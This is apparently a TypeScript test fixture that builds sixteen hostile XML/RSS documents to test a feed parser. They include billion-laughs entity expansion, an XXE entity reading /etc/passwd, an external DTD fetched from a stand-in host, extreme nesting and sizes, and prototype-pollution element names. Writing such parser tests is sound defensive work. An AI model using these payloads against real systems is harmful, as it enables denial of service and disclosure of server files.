/** Documents that take a parser's memory or time, or make it read what it must not (16 of them). */
const lol = (levels: number) => {
  const entities = Array.from(
    { length: levels },
    (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`,
  );
  return `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "lol">${entities.join('')}]><rss version="2.0"><channel><title>&l${levels};</title></channel></rss>`;
};
const MEGA = 1_000_000;

export const BOMBS: Record<string, () => string> = {
  'billion laughs': () => lol(9),
  'a million laughs': () => lol(6),
  'a long entity often': () =>
    `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "${'a'.repeat(MEGA / 10)}">]><rss version="2.0"><channel><title>${'&a;'.repeat(20_000)}</title></channel></rss>`,
  'an entity from a file': () =>
    `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss version="2.0"><channel><title>[&x;]</title><item><title>[&x;]</title><link>https://x.example/</link></item></channel></rss>`,
  'an entity from elsewhere': () =>
    `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "https://f40-dtd.example/e.dtd">%p;]><rss version="2.0"/>`,
  'deep, closed': () => '<a>'.repeat(MEGA / 10) + '</a>'.repeat(MEGA / 10),
  'deep, open': () => '<a>'.repeat(MEGA),
  'attributes without end': () =>
    `<rss ${Array.from({ length: MEGA / 10 }, (_, i) => `a${i}="1"`).join(' ')}/>`,
  'a long attribute': () => `<rss a="${'x'.repeat(9 * MEGA)}"/>`,
  'items without end': () =>
    `<rss version="2.0"><channel>${'<item><title>t</title><guid>g</guid><link>http://e/</link></item>'.repeat(MEGA / 10)}</channel></rss>`,
  'names of the language': () =>
    '<rss version="2.0"><__proto__><polluted>1</polluted></__proto__><constructor><prototype><polluted>2</polluted></prototype></constructor></rss>',
  'CDATA without end': () => `<rss><title><![CDATA[${'x'.repeat(5 * MEGA)}`,
  '"<" without end': () => '<'.repeat(2 * MEGA),
  '"&" without end': () => `<r>${'&'.repeat(2 * MEGA)}</r>`,
  'comments without end': () => `<r>${'<!--'.repeat(300_000)}</r>`,
  'a NUL': () => '<rss>\u0000<t>a</t></rss>',
};
